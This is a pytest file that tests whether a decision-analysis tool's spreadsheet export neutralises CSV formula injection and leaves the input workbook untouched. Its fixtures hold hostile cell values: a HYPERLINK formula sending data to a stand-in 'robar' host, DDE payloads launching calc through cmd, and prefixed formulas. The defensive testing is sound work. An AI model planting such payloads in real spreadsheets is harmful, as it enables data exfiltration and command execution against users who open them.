"""Formula injection through the whole export path, and the input file never written (issue 8 item 4).

A committee workbook whose every free text is an attack — ``=HYPERLINK(...)``
(data exfiltration when clicked), ``+cmd|' /C calc'!A0`` (DDE), ``@SUM(...)``
(Lotus-style formula), ``-2+3`` (arithmetic), plus tab and carriage-return
prefixes (OWASP "CSV injection") — in cluster ids, names, regions and
descriptions, criterion ids, names, groups, units, descriptions and sources,
committee member names and roles, and the committee's annotation of a
cluster, goes through ``clusterprio-cli rank -o`` (reader, session, justified
Prioridades, Pesos, Sensibilidad, Metodologia, committee sheets, writer, atomic
save).  In the exported workbook no cell is a formula, every text that a
spreadsheet would take for one carries Excel's quote prefix and keeps its
exact value, and the export reads back as an input with the same texts.

Then a full session — validate, rank with export, AHP from the same
workbook's matrix, verify the export, save the session elsewhere — leaves the
input file byte for byte as it was.
"""

from __future__ import annotations

import hashlib
import re
import zipfile
from pathlib import Path

import numpy as np
import openpyxl
import pytest

import resources
from mcda.cli import main as cli
from mcda.problem import Cluster, Criterion, Direction, Judgments, Member, Problem
from mcda.workbook import read_workbook
from mcda.workbook.input_sheets import write_input_sheets
from mcda.workbook.sanitize import is_formula_like
from mcda.workbook.save import save_atomic

HYPERLINK = '=HYPERLINK("http://ejemplo.invalid/robar?d="&A1,"Ver detalle")'
DDE = "+cmd|' /C calc'!A0"
AT_SUM = "@SUM(1+9)*cmd|' /C calc'!A0"
ARITH = "-2+3"
ATTACKS = (HYPERLINK, DDE, AT_SUM, ARITH, "=1+1", "\t=2+2", "\r=3+3")
#: The reader trims the spaces around a cell's text, so the tab and CR attacks arrive as "=2+2", "=3+3".
ATTACKS_AS_READ = tuple(a.strip() for a in ATTACKS)


def _hostile_problem() -> Problem:
    clusters = (
        Cluster("=C1", HYPERLINK, DDE, AT_SUM),
        Cluster("C2", ARITH, "\t=2+2", "\r=3+3"),
        Cluster("@C3", "=1+1", ARITH, HYPERLINK),
    )
    criteria = (
        Criterion("I1", DDE, group=AT_SUM, unit=ARITH, weight=0.5, description=HYPERLINK, source="=1+1"),
        Criterion("-2+3", HYPERLINK, group=AT_SUM, unit="\t=2+2", weight=0.3, description=DDE, source=ARITH),
        Criterion("R1", "@SUM(A1:A9)", group="=1+1", direction=Direction.COST, unit="%", weight=0.2,
                  description="-1", source=DDE),
    )
    labels = ("I1", "-2+3", "R1")
    m1 = np.array([[1, 3, 5], [1 / 3, 1, 2], [1 / 5, 1 / 2, 1]])
    m2 = np.array([[1, 2, 4], [1 / 2, 1, 3], [1 / 4, 1 / 3, 1]])
    members = (Member("M1", HYPERLINK, DDE), Member("M2", ARITH, AT_SUM))
    judgments = (Judgments(labels, m1, "M1"), Judgments(labels, m2, "M2"))
    return Problem(clusters, criteria, [[1200, 0.5, 2500], [800, 0.2, 900], [600, 0.1, 1200]],
                   members=members, judgments=judgments, settings={"note.=C1": HYPERLINK, "note.C2": DDE})


def _write_input(path: Path) -> Path:
    wb = openpyxl.Workbook()
    wb.remove(wb.active)
    write_input_sheets(wb, _hostile_problem())
    save_atomic(wb, path)
    return path


def _sha(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


@pytest.fixture(scope="module")
def exported(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    folder = tmp_path_factory.mktemp("inyeccion")
    source = _write_input(folder / "comite_hostil.xlsx")
    out = folder / "prioridades.xlsx"
    assert cli(["rank", str(source), "-o", str(out)]) == 0
    return source, out


def test_no_exported_cell_is_a_formula_and_risky_text_is_quote_prefixed(exported: tuple[Path, Path]) -> None:
    _source, out = exported
    wb = openpyxl.load_workbook(out)
    risky_cells: list[str] = []
    found: set[str] = set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str) and is_formula_like(cell.value):
                    assert cell.quotePrefix, f"{ws.title}!{cell.coordinate} {cell.value!r} has no quote prefix"
                    risky_cells.append(f"{ws.title}!{cell.coordinate}")
                    found.update(a for a in ATTACKS_AS_READ if a in cell.value)
    assert found == set(ATTACKS_AS_READ)  # every attack was exported (as inert text), none dropped
    sheets = {loc.split("!")[0] for loc in risky_cells}
    assert {"Clusters", "Criterios", "Comite", "Prioridades", "Pesos"} <= sheets, sheets
    assert len(risky_cells) >= 30


def test_no_formula_element_anywhere_in_the_package(exported: tuple[Path, Path]) -> None:
    """Below openpyxl: no ``<f>`` in any sheet, no external links, no macros, no DDE."""
    _source, out = exported
    with zipfile.ZipFile(out) as z:
        names = z.namelist()
        assert not [n for n in names if "externalLink" in n or "vbaProject" in n or n.endswith(".bin")]
        for name in names:
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = z.read(name)
                assert not re.search(rb"<(\w+:)?f[ >/]", xml), name
                assert b"ddeLink" not in xml


def test_export_reads_back_with_the_exact_texts(exported: tuple[Path, Path]) -> None:
    source, out = exported
    result = read_workbook(out)
    assert result.ok, [i.code for i in result.errors]
    original = read_workbook(source).problem
    assert result.problem is not None and original is not None
    assert original.clusters[0].name == HYPERLINK and original.criteria[0].name == DDE
    assert result.problem.clusters == original.clusters
    assert [(c.id, c.name, c.group, c.unit, c.description, c.source) for c in result.problem.criteria] == \
        [(c.id, c.name, c.group, c.unit, c.description, c.source) for c in original.criteria]
    assert [(m.id, m.name, m.role) for m in result.problem.members] == \
        [(m.id, m.name, m.role) for m in original.members]
    assert result.problem.settings["note.=C1"] == HYPERLINK


def test_a_full_session_never_writes_the_input(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    source = tmp_path / "entrada.xlsx"
    source.write_bytes(resources.sample_workbook().read_bytes())
    source.chmod(0o444)  # even a writable copy would do: it is compared byte for byte below
    before, stat_before = _sha(source), source.stat()
    out, session = tmp_path / "salida.xlsx", tmp_path / "otra_carpeta" / "sesion.xlsx"
    session.parent.mkdir()
    assert cli(["validate", str(source)]) == 0
    assert cli(["rank", str(source), "--json"]) == 0
    assert cli(["rank", str(source), "-o", str(out), "--method", "topsis", "--method", "vikor"]) == 0
    assert cli(["verify", str(out)]) == 0
    result = read_workbook(source)  # what the app does on Open, then Save As elsewhere
    assert result.problem is not None
    wb = openpyxl.Workbook()
    wb.remove(wb.active)
    write_input_sheets(wb, result.problem)
    save_atomic(wb, session)
    capsys.readouterr()
    assert _sha(source) == before
    assert source.stat().st_mtime_ns == stat_before.st_mtime_ns and source.stat().st_ino == stat_before.st_ino
    assert sorted(p.name for p in tmp_path.iterdir()) == ["entrada.xlsx", "otra_carpeta", "salida.xlsx"]
